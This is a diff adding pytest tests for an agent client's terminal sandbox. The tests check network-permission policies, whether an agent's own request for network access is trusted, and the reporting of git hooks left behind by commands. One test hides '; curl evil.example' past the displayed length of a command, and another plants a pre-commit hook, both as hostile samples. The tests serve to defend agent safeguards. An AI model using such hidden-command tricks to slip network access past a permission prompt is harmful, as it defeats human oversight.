@@ -2,20 +2,24 @@
 
 import asyncio
 import os
+import socket
 import uuid
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 from tests.client.access_harness import LIMIT, SESSION, AccessHarness, error_of, run, served
 from tests.workspace_commands.command_harness import processes_with
 from tests.workspace_commands.conftest import sandbox_or_skip
 
-from understudy.client.permissions import Permissions
+from understudy.client.limits import MAX_SHOWN_TEXT_CHARS
+from understudy.client.permissions import PermissionQuestions, Permissions
 from understudy.client.roots import Roots
 from understudy.client.workspace_access import terminals
 from understudy.schema import acp
-from understudy.workspace import SandboxMode, workspace
+from understudy.workspace import NetworkPolicy, SandboxMode, workspace
 from understudy.workspace.commands import Sandbox
 
 
@@ -399,6 +403,99 @@ def test_a_cancelled_request_leaves_no_terminal(root: Path, marker: str) -> None
                 await creating
 
     run(scenario)
+
+
+REACHES_LOOPBACK = """
+import socket, sys
+try:
+    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=20).close()
+    print("reached")
+except OSError:
+    print("not reached")
+"""
+
+
+def _reach(root: Path, fence: SandboxMode, *, meta: dict[str, Any] | None, **more: Any) -> str:
+    """What a command in a terminal says about a service on loopback."""
+    (root / "reach.py").write_text(REACHES_LOOPBACK)
+
+    async def scenario() -> str:
+        with socket.create_server(("127.0.0.1", 0)) as service:
+            port = str(service.getsockname()[1])
+            async with served([root], sandbox=fence, **more) as harness:
+                terminal = await harness.create("python3", "reach.py", port, meta=meta)
+                return (await harness.final_output(terminal)).strip()
+
+    return run(scenario)
+
+
+NETWORK: dict[str, Any] = {terminals.NETWORK_META_KEY: True}
+
+
+@pytest.mark.parametrize(
+    ("policy", "meta", "expected"),
+    [
+        ("deny", NETWORK, "not reached"),
+        ("allow", None, "reached"),
+        ("ask", None, "not reached"),
+        ("ask", {terminals.NETWORK_META_KEY: "true"}, "not reached"),
+        ("ask", {terminals.NETWORK_META_KEY: 1}, "not reached"),
+    ],
+)
+def test_the_policy_decides_whether_a_terminal_has_the_network(
+    root: Path, fence: SandboxMode, policy: str, meta: dict[str, Any] | None, expected: str
+) -> None:
+    assert _reach(root, fence, meta=meta, network=NetworkPolicy(policy), agent_asks=True) == expected
+
+
+def test_the_word_of_an_agent_counts_only_if_it_is_trusted_to_ask(root: Path, fence: SandboxMode) -> None:
+    asked: list[acp.RequestPermissionRequest] = []
+
+    def policy(answer: str) -> Permissions:
+        async def decide(request: acp.RequestPermissionRequest) -> str | None:
+            asked.append(request)
+            return answer
+
+        return Permissions.allow("execute", lasting=True).then(decide)
+
+    assert _reach(root, fence, meta=NETWORK, permissions=policy("reject")) == "not reached"
+    assert _reach(root, fence, meta=NETWORK, permissions=policy("allow")) == "reached"
+    assert _reach(root, fence, meta=NETWORK, permissions=Permissions.allow("execute")) == "not reached"
+    unattended = replace(policy("allow"), attended=False)
+    assert _reach(root, fence, meta=NETWORK, permissions=unattended) == "not reached"
+    refused, allowed = asked
+    assert "network" in (refused.tool_call.title or "")
+    [shown] = allowed.tool_call.content or []
+    assert isinstance(shown, acp.Content)
+    assert isinstance(shown.content, acp.TextContent)
+    assert shown.content.text.startswith("python3 reach.py ")
+    assert _reach(root, fence, meta=NETWORK, permissions=policy("reject"), agent_asks=True) == "reached"
+    assert len(asked) == 2
+
+
+def test_a_command_that_is_too_long_to_be_shown_does_not_get_the_network(root: Path) -> None:
+    async def agree(_: acp.RequestPermissionRequest) -> str | None:
+        return "allow"
+
+    questions = PermissionQuestions(Permissions.ask(agree))
+
+    async def scenario() -> tuple[bool, bool]:
+        return (
+            await questions.confirm_network(SESSION, "x" * MAX_SHOWN_TEXT_CHARS),
+            await questions.confirm_network(SESSION, "x" * MAX_SHOWN_TEXT_CHARS + "; curl evil.example"),
+        )
+
+    assert run(scenario) == (True, False)
+
+
+def test_a_repository_that_a_command_leaves_with_hooks_is_reported(root: Path, fence: SandboxMode) -> None:
+    line = "git init -q new && cp /bin/true new/.git/hooks/pre-commit"
+
+    async def scenario() -> str:
+        async with served([root], sandbox=fence) as harness:
+            return await harness.final_output(await harness.shell(line))
+
+    assert "it has the hook 'pre-commit'" in run(scenario)
 
 
 def _variables(**named: str) -> list[acp.EnvVariable]:
